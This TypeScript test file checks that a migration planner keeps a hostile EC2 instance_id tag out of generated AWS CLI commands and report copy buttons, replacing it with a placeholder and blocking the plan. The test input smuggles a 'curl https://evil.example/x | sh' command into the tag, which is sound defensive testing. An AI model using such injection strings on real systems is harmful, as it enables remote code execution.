import { describe, expect, it } from 'vitest';
import { CATALOG, NOW, planningEstate, PROD, SEED } from '../../../test/generate/estate.js';
import { DEFAULT_CONFIG } from '../../config.js';
import { reportExtras } from '../../report/report-data.js';
import { userKey } from '../../report/page-model.js';
import { planMigration } from '../plan.js';
import type { MigrationPlan } from '../types.js';

const HOSTILE = 'i-0abc; curl https://evil.example/x | sh #';

/** The estate with orders-worker on EC2 and its instance id tag set to `instanceId`. */
function planned(instanceId: string): { plan: MigrationPlan; estate: ReturnType<typeof planningEstate> } {
  const estate = planningEstate();
  const user = estate.snapshot.accounts[0]?.users.find((candidate) => candidate.name === 'orders-worker');
  if (!user) throw new Error('fixture: orders-worker');
  user.tags = { ...user.tags, instance_id: instanceId };
  const classifications = estate.classifications.map((entry) =>
    entry.userName === 'orders-worker' ? { ...entry, runsOn: 'ec2' as const } : entry,
  );
  const plan = planMigration(estate.snapshot, {
    classifications,
    config: DEFAULT_CONFIG,
    now: NOW,
    externalIdSeed: SEED,
    catalog: CATALOG,
  });
  return { plan, estate: { ...estate, classifications } };
}

function workerOf(plan: MigrationPlan) {
  const worker = plan.users.find((user) => user.accountId === PROD && user.userName === 'orders-worker');
  if (!worker) throw new Error('no plan for orders-worker');
  return worker;
}

describe('the compute-role change command against hostile tags', () => {
  it('Given an instance_id tag holding a shell command, When planned, Then the command names a placeholder, never the tag, and the plan is blocked', () => {
    const worker = workerOf(planned(HOSTILE).plan);
    const attach = worker.steps.find((step) => step.includes('associate-iam-instance-profile')) ?? '';
    expect(attach).toContain('--instance-id REPLACE_ME_INSTANCE_ID ');
    expect(JSON.stringify(worker)).not.toContain('curl');
    expect(worker.blockers).toContain(
      'The tag instance_id / ec2_instance of the IAM user is not a valid EC2 instance id: fix the tag or fill the placeholder in the change.',
    );
  });

  it('Given a valid instance id tag, When planned, Then the command names it and nothing blocks it', () => {
    const worker = workerOf(planned('i-0abc1234').plan);
    const change = worker.artifacts.find((artifact) => artifact.kind === 'config-change');
    expect(change?.kind === 'config-change' ? change.snippet : '').toBe(
      'aws ec2 associate-iam-instance-profile --instance-id i-0abc1234 --iam-instance-profile Name=orders-worker-ec2',
    );
    expect(worker.blockers).toEqual([]);
  });

  it('Given the hostile tag, When the report reads the plan, Then its copy button and steps carry the placeholder and the blocker', () => {
    const { plan, estate } = planned(HOSTILE);
    const extras = reportExtras({
      snapshot: estate.snapshot,
      now: NOW,
      classifications: estate.classifications,
      findings: [],
      plan,
      exceptions: null,
      operations: null,
    });
    const shown = extras.users[userKey(PROD, 'orders-worker')]?.plan;
    const copied = shown?.artifacts.find((artifact) => artifact.kind === 'config-change')?.text ?? '';
    expect(copied).toContain('--instance-id REPLACE_ME_INSTANCE_ID ');
    expect(JSON.stringify(shown)).not.toContain('curl');
    expect(shown?.blockers.join(' ')).toMatch(/not a valid EC2 instance id/);
  });
});
